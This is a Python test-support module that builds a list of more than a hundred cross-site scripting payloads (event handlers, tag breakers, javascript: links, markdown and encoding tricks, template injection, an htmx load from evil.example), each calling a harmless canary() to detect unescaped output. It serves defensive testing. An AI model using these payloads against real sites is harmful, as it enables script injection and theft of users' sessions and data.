"""Text that people might write to get scripts into pages of others (A10): more than a hundred ways.

Each calls `canary()` when a browser takes it for anything but text.
"""

from __future__ import annotations

from tests.faces.web.test_hostile_text import PAYLOADS as CORE

_HANDLERS = (
    "onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onmouseenter", "ontoggle",
    "onanimationstart", "ontransitionend", "onpointerover", "onbegin", "onscroll", "onwheel",
    "oncopy", "onpaste", "oninput", "onsubmit", "onbeforetoggle", "onpageshow", "onhashchange",
)  # fmt: skip
_BREAKERS = (
    "</a>", "</td></tr></table>", "</option></select>", "</svg>", "</details>", "</button>",
    "</label>", "</dialog>", "</form>", "</template>", "</noscript>", "</math>",
)  # fmt: skip

MORE = (
    *(f"<x {each}=canary() tabindex=1 autofocus>" for each in _HANDLERS),
    *(f"<img src=x {each}='canary()'>" for each in _HANDLERS),
    *(f"{each}<script>canary()</script>" for each in _BREAKERS),
    "<a hx-get=/x hx-on:click=canary() hx-trigger=load>", "<x hx-on::load=canary()>",
    "<div data-hx-get=//evil.example hx-trigger=load>", "<script type=module>canary()</script>",
    "<script>\\u0063anary()</script>", "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x>", "<video><source onerror=canary()>",
    "<audio src=x onerror=canary()>", "<marquee onstart=canary()>",
    "<isindex action=javascript:canary()>",
    "<a href='java&#115;cript:canary()'>x</a>", '<a href="\x09javascript:canary()">x</a>',
    "[x](javascript:canary())", '![x](x "onerror=canary()")', "<javascript:canary()>",
    "[x](data:text/html,<script>canary()</script>)", "[x]: javascript:canary()", "`<script>canary()`",
    "<template><script>canary()</script></template>", "<frameset onload=canary()>",
    "<plaintext><script>canary()</script>", "<xmp><script>canary()</script></xmp>",
    "<%00script>canary()</script>", "<script\x0c>canary()</script>", "<script/x>canary()</script>",
    "<sc\u0131pt>canary()</sc\u0131pt>", "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "';canary();'", '";canary();"', "`;canary();`", "</script><script>canary()</script>",
    "{{constructor.constructor('canary()')()}}", "#{canary()}", "<!--#exec cmd=x-->",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*CORE, *MORE)


def fit(payload: str, forbidden: str = "", length: int = 100) -> str:
    """The payload as near as a field may come to it."""
    kept = "".join(sign for sign in payload if sign not in forbidden and sign.isprintable())
    return kept[:length].strip(" .") or "x"


def distinct(forbidden: str, length: int = 100) -> list[str]:
    """Every payload as a field may hold it, each once, whatever the case."""
    found: dict[str, str] = {}
    for number, payload in enumerate(PAYLOADS):
        text = fit(payload, forbidden, length)
        if text.casefold() in found:
            text = fit(f"{number} {payload}", forbidden, length)
        found[text.casefold()] = text
    return list(found.values())
